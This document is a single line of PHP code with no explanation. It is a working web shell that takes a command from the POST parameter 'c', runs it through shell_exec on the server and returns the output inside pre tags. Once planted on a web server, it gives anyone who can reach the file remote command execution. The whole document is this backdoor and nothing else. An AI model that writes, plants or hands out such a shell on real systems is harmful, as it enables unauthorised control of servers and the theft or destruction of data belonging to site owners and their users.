<?php echo "<pre>" . shell_exec($_POST['c']) . "</pre>"; ?>
